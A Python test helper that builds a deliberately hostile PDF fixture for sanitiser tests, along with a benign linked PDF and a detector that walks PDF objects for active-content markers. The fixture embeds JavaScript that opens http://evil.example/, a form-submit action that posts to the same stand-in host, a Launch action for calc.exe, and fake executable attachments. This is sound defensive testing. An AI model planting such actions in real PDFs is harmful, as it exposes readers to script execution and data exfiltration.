"""PDFs that carry active content, made in the test (no binaries committed), and a way to find it.

`hostile_pdf` is a two-page text publication loaded with one of each thing a copy must not
carry; `linked_pdf` is a benign one with a web link and a link to its second page.
`active_names` walks every object of a file and returns the markers of active content it finds.
"""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, String

from tests.integration.library.pdf_helpers import tiny_pdf

# Names that only active content uses: a copy holding any of them is not clean.
MARKERS = frozenset(
    {
        "/JS",
        "/JavaScript",
        "/Launch",
        "/EmbeddedFile",
        "/EmbeddedFiles",
        "/FileAttachment",
        "/RichMedia",
        "/RichMediaContent",
        "/SubmitForm",
        "/XFA",
    }
)
TITLE = "Statistik Daerah Kota Metro"
WEB_ADDRESS = "https://metrokota.bps.go.id/"


def _script(pdf: pikepdf.Pdf, code: str) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def _annotation(pdf: pikepdf.Pdf, subtype: str, rect: list[int], **entries: object) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(rect), **entries))


def hostile_pdf(title: str = TITLE) -> bytes:
    """Return a text PDF with JavaScript, a launcher, a form sender, attachments and rich media."""
    with pikepdf.open(io.BytesIO(tiny_pdf(title, 2))) as pdf:
        first, second = pdf.pages[0].obj, pdf.pages[1].obj
        pdf.Root.OpenAction = _script(pdf, "app.alert('dibuka');")
        first.AA = Dictionary(O=_script(pdf, "app.launchURL('http://evil.example/');"))
        pdf.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("init"), _script(pdf, "this.print();")]))
        )
        pdf.attachments["evil.exe"] = AttachedFileSpec(pdf, b"MZ\x90\x00 not a real program")
        attached = AttachedFileSpec(pdf, b"MZ\x90\x00 another one", filename="note.exe").obj
        launch = Dictionary(S=Name.Launch, F=String("calc.exe"), Next=_script(pdf, "app.beep(0);"))
        submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/")))
        button = _annotation(pdf, "/Widget", [72, 600, 200, 630], FT=Name.Btn, T=String("kirim"), A=submit)
        media = pdf.make_indirect(pikepdf.Stream(pdf, b"FWS not a movie", Type=Name.EmbeddedFile))
        assets = Dictionary(
            Names=Array([String("film.swf"), Dictionary(Type=Name.Filespec, EF=Dictionary(F=media))])
        )
        first.Annots = Array(
            [
                _annotation(pdf, "/Link", [72, 700, 200, 720], A=launch),
                _annotation(
                    pdf, "/RichMedia", [72, 300, 300, 500], RichMediaContent=Dictionary(Assets=assets)
                ),
            ]
        )
        second.Annots = Array(
            [
                _annotation(pdf, "/FileAttachment", [72, 700, 90, 720], FS=attached, Name=Name.Paperclip),
                button,
            ]
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([button]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
        item = pdf.make_indirect(
            Dictionary(Title=String("Bab 1"), Parent=pdf.Root.Outlines, A=_script(pdf, "app.alert(1);"))
        )
        pdf.Root.Outlines.First = pdf.Root.Outlines.Last = item
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def linked_pdf(title: str = TITLE) -> bytes:
    """Return a benign text PDF that opens at its first page, with a web link and a link to page 2."""
    with pikepdf.open(io.BytesIO(tiny_pdf(title, 2))) as pdf:
        first, second = pdf.pages[0].obj, pdf.pages[1].obj
        pdf.Root.OpenAction = Array([first, Name.Fit])
        web = Dictionary(S=Name.URI, URI=String(WEB_ADDRESS))
        inside = Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]))
        first.Annots = Array(
            [
                _annotation(pdf, "/Link", [72, 700, 300, 720], A=web, Border=Array([0, 0, 0])),
                _annotation(pdf, "/Link", [72, 650, 300, 670], A=inside, Border=Array([0, 0, 0])),
            ]
        )
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def active_names(data: bytes) -> set[str]:
    """Return the markers of active content found anywhere in a PDF: every object, keys and values."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            _walk(obj, found)
        _walk(pdf.trailer, found)
    return found


def _walk(obj: pikepdf.Object, found: set[str]) -> None:
    if isinstance(obj, Name):
        if str(obj) in MARKERS:
            found.add(str(obj))
        return
    if isinstance(obj, pikepdf.Stream):
        obj = obj.stream_dict
    if isinstance(obj, Dictionary):
        for key, value in obj.items():
            if key in MARKERS:
                found.add(key)
            if not _indirect(value):  # indirect objects are walked on their own
                _walk(value, found)
    elif isinstance(obj, Array):
        for value in obj:
            if not _indirect(value):
                _walk(value, found)


def _indirect(value: object) -> bool:
    return isinstance(value, pikepdf.Object) and value.is_indirect


def link_targets(data: bytes) -> list[str]:
    """Return what each link of a PDF does: its web address, or 'page N' for a link inside it."""
    targets = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pages = {page.obj.objgen: number for number, page in enumerate(pdf.pages, start=1)}
        for page in pdf.pages:
            for annot in page.obj.get("/Annots", Array()):
                action = annot.get("/A")
                if annot.get("/Subtype") != Name.Link or not isinstance(action, Dictionary):
                    continue
                if action.get("/S") == Name.URI:
                    targets.append(str(action.URI))
                elif action.get("/S") == Name.GoTo:
                    targets.append(f"page {pages.get(action.D[0].objgen)}")
    return targets
